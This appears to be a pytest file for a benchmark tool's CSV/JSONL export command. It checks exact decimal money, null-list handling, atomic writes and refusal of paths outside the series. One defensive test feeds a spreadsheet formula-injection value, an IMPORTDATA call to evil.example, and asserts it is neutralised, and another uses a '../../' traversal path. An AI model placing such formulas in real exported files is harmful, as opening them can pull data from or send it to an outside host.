"""`fragbench export SERIES_DIR --format csv|jsonl [--out DIR]`: every table of a series, one
file each, read back equal to its Parquet table: the same columns in the same order, the same
rows, money as exact decimal text (never a float), lists of IDs space-joined in CSV and lists of
texts as JSON arrays; a null list and an empty one stay apart. Errors are one line; a write that
fails midway leaves nothing behind."""

from __future__ import annotations

import errno
import json
from decimal import Decimal
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from support.cli import error_lines, run_cli
from support.series import loopback_series

from fragbench.errors import EXIT_REFUSED, EXIT_USAGE
from fragbench.series.export import encoded
from fragbench.testing.loopback import Server, http_error, ok

TABLES = ["calls", "availability", "call_availability", "citations", "citations_per_call",
          "completeness", "usage", "retrieval", "facts"]


@pytest.fixture
def stopped(experiment: Path, server: Server) -> Path:
    """A model series with money, an unparsed answer and calls never sent."""
    server.script[2] = ok(text="this is not JSON")  # answered, not parsed: lists are null
    server.script[9] = http_error(500)  # stops at call 10: 62 calls never sent
    series_dir = loopback_series(experiment, server, "openai")
    assert json.loads((series_dir / "status.json").read_text(encoding="utf-8"))["state"] == \
        "stopped"
    return series_dir


def parquet(series_dir: Path, name: str) -> pl.DataFrame:
    rel = "retrieval.parquet" if name == "retrieval" else f"{name}.parquet"
    return pl.read_parquet(series_dir / rel)


def exported(series_dir: Path, fmt: str, *extra: str) -> str:
    result = run_cli("export", str(series_dir), "--format", fmt, *extra)
    assert result.returncode == 0, result.stderr
    return result.stdout


def jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def plain(value: Any) -> Any:
    """What the export writes for a Parquet value: money as exact decimal text."""
    if isinstance(value, Decimal):
        text = format(value, "f")
        return text.rstrip("0").rstrip(".") if "." in text else text
    return value


def test_csv_holds_every_table_as_it_is(stopped: Path) -> None:
    out = exported(stopped, "csv")
    folder = stopped / "export"
    assert out.startswith(f"9 tables written to {folder}")
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        [".fragbench-export", *(f"{t}.csv" for t in TABLES)])
    for name in TABLES:
        table = parquet(stopped, name)
        back = pl.read_csv(folder / f"{name}.csv", infer_schema=False)  # every cell as text
        assert back.columns == table.columns, name
        assert back.height == table.height, name

    calls = parquet(stopped, "calls")
    back = pl.read_csv(folder / "calls.csv", infer_schema=False)
    for row, text in zip(calls.to_dicts(), back.to_dicts(), strict=True):
        for column in ("cost_usd", "reserved_usd", "counted_usd"):  # exact, or empty if null
            assert text[column] == plain(row[column]), (row["call_id"], column)
        assert text["supplied_ids"] == " ".join(row["supplied_ids"])
        assert json.loads(text["supplied_texts"]) == row["supplied_texts"]  # texts keep apart
        assert (None if text["citations"] is None else json.loads(text["citations"])) == \
            row["citations"]
    spent = json.loads((stopped / "status.json").read_text(encoding="utf-8"))["spent_usd"]
    assert sum(Decimal(v) for v in back["counted_usd"].drop_nulls()) == Decimal(spent)
    assert back.filter(pl.col("status") == "not_sent")["reserved_usd"].null_count() == 62

    per_call = pl.read_csv(folder / "citations_per_call.csv", infer_schema=False)
    unparsed = per_call.filter(pl.col("parsed").ne_missing("true"))
    assert unparsed.height == 1 + 1 + 62  # not JSON, the failed call, the calls never sent
    assert unparsed["valid_ids"].null_count() == unparsed.height  # nothing measured: null
    cited = per_call.filter(pl.col("parsed") == "true")
    assert cited["valid_ids"].null_count() == 0

    citations = pl.read_csv(folder / "citations.csv", infer_schema=False)
    assert citations.columns[:7] == ["call_id", "case", "lang", "variant", "mode", "rep",
                                     "citation"]
    assert citations.height == parquet(stopped, "citations").height > 0


def test_jsonl_keeps_json_shapes_and_exact_money(stopped: Path, tmp_path: Path) -> None:
    out = tmp_path / "new" / "folder"  # created, parents and all
    exported(stopped, "jsonl", "--out", str(out))
    assert sorted(p.name for p in out.iterdir()) == sorted(
        [".fragbench-export", *(f"{t}.jsonl" for t in TABLES)])
    for name in TABLES:
        rows = jsonl(out / f"{name}.jsonl")
        table = parquet(stopped, name)
        assert [list(r) for r in rows] == [table.columns] * table.height, name
        assert rows == [{k: plain(v) for k, v in r.items()} for r in table.to_dicts()], name
    calls = jsonl(out / "calls.jsonl")
    assert calls[0]["counted_usd"] == plain(parquet(stopped, "calls")["counted_usd"][0])
    assert all(isinstance(r["counted_usd"], str | None) for r in calls)  # never a JSON number
    assert not (stopped / "export").exists()


def test_the_baseline_and_an_empty_table(extractive: Path, tmp_path: Path) -> None:
    # A diagnostic's table goes under diagnostics/, as in the series; an empty one is written.
    (extractive / "diagnostics").mkdir()
    parquet(extractive, "citations").head(0).write_parquet(
        extractive / "diagnostics" / "checker.parquet")
    manifest = json.loads((extractive / "measures.json").read_text(encoding="utf-8"))
    manifest.append({"table": "checker", "measure": "checker", "kind": "diagnostic",
                     "path": "diagnostics/checker.parquet"})
    (extractive / "measures.json").write_text(json.dumps(manifest), encoding="utf-8")
    for fmt in ("csv", "jsonl"):
        exported(extractive, fmt, "--out", str(tmp_path / fmt))
        assert (tmp_path / fmt / "diagnostics" / f"checker.{fmt}").is_file()
        assert not (tmp_path / fmt / f"checker.{fmt}").exists()
    assert pl.read_csv(tmp_path / "csv" / "diagnostics" / "checker.csv").columns == \
        parquet(extractive, "citations").columns
    assert (tmp_path / "jsonl" / "diagnostics" / "checker.jsonl").read_bytes() == b""
    facts = pl.read_csv(tmp_path / "csv" / "facts.csv")
    assert facts.equals(parquet(extractive, "facts"))


def test_a_folder_that_is_no_series(tmp_path: Path) -> None:
    for where in (tmp_path / "missing", tmp_path):
        result = run_cli("export", str(where), "--format", "csv")
        assert result.returncode == EXIT_REFUSED
        (line,) = error_lines(result.stderr)
        assert str(where) in line and "not a series folder" in line
    assert list(tmp_path.iterdir()) == []


def test_a_series_never_measured_or_a_manifest_leading_out(extractive: Path) -> None:
    manifest = extractive / "measures.json"
    entries = json.loads(manifest.read_text(encoding="utf-8"))
    manifest.unlink()
    result = run_cli("export", str(extractive), "--format", "csv")
    assert result.returncode == EXIT_REFUSED
    (line,) = error_lines(result.stderr)
    assert "measures.json" in line and "fragbench measure" in line
    entries[-1]["path"] = "../../elsewhere.parquet"  # the export would write outside its folder
    manifest.write_text(json.dumps(entries), encoding="utf-8")
    result = run_cli("export", str(extractive), "--format", "csv")
    assert result.returncode == EXIT_REFUSED
    (line,) = error_lines(result.stderr)
    assert "'../../elsewhere.parquet'" in line and "inside the series" in line
    assert not (extractive / "export").exists()


def test_usage_errors(extractive: Path, tmp_path: Path) -> None:
    a_file = tmp_path / "a-file"
    a_file.write_text("x", encoding="utf-8")
    for args, words in (
        (["--format", "xlsx"], "csv, jsonl"),
        (["--format", "csv", "--out", str(a_file)], "is a file"),
        (["--format", "csv", "--out", str(a_file / "below")], "is a file, not a folder"),
    ):
        result = run_cli("export", str(extractive), *args)
        assert result.returncode == EXIT_USAGE, args
        (line,) = error_lines(result.stderr)
        assert words in line, line
    assert not (extractive / "export").exists()
    assert a_file.read_text(encoding="utf-8") == "x"


def test_a_write_that_fails_leaves_nothing(extractive: Path, tmp_path: Path,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    """A full disk on the fourth file: an earlier export stays as it was, byte for byte; a new
    folder is not left behind; no temporary file anywhere."""
    exported(extractive, "csv")
    before = {p.name: p.read_bytes() for p in (extractive / "export").iterdir()}
    real = Path.write_text
    written: list[Path] = []

    def fill_disk(path: Path, *args: Any, **kwargs: Any) -> Any:
        if path.suffix == ".csv":
            if len(written) == 3:
                raise OSError(errno.ENOSPC, "No space left on device", str(path))
            written.append(path)
        return real(path, *args, **kwargs)

    monkeypatch.setattr(Path, "write_text", fill_disk)
    result = run_cli("export", str(extractive), "--format", "csv")
    assert result.returncode == EXIT_REFUSED
    (line,) = error_lines(result.stderr)
    assert "No space left on device" in line and "nothing was exported" in line
    assert len(written) == 3
    assert {p.name: p.read_bytes() for p in (extractive / "export").iterdir()} == before

    written.clear()
    out = tmp_path / "out" / "here"
    result = run_cli("export", str(extractive), "--format", "csv", "--out", str(out))
    assert result.returncode == EXIT_REFUSED
    assert len(written) == 3 and not any(p.exists() for p in written)
    assert not (tmp_path / "out").exists()  # the folders it made are gone too


def test_an_out_folder_is_replaced_whole_or_refused(extractive: Path, tmp_path: Path) -> None:
    """An earlier export is replaced whole (no stale file of another format stays); a folder
    holding anything else is refused before anything is written."""
    out = tmp_path / "exports" / "exported"
    assert run_cli("export", str(extractive), "--format", "jsonl", "--out", str(out)
                   ).returncode == 0
    assert run_cli("export", str(extractive), "--format", "csv", "--out", str(out)
                   ).returncode == 0
    assert {p.suffix for p in out.iterdir() if not p.name.startswith(".")} == {".csv"}
    assert [p.name for p in out.parent.iterdir()] == ["exported"]  # no staging, no old copy

    other = tmp_path / "mine"
    other.mkdir()
    (other / "calls.csv").write_text("MINE", encoding="utf-8")
    result = run_cli("export", str(extractive), "--format", "csv", "--out", str(other))
    assert result.returncode == 2
    (line,) = error_lines(result.stderr)
    assert "a folder that holds other files" in line
    assert [p.name for p in other.iterdir()] == ["calls.csv"]
    assert (other / "calls.csv").read_text(encoding="utf-8") == "MINE"


def test_a_csv_cell_that_looks_like_a_formula_is_written_inert() -> None:
    frame = pl.DataFrame({"extract": ['=IMPORTDATA("http://evil.example/x")', "+1", "-x",
                                      "@SUM(A1)", "plain", None],
                          "ids": [["=F1"], ["F2"], [], ["F3"], ["F4"], None]})
    cells = encoded(frame, "csv")
    assert cells["extract"].to_list() == ["'=IMPORTDATA(\"http://evil.example/x\")", "'+1",
                                          "'-x", "'@SUM(A1)", "plain", None]
    assert cells["ids"].to_list()[:2] == ["'=F1", "F2"]
    # JSON lines keep the text as it is.
    assert encoded(frame, "jsonl")["extract"].to_list()[0].startswith("=IMPORTDATA")
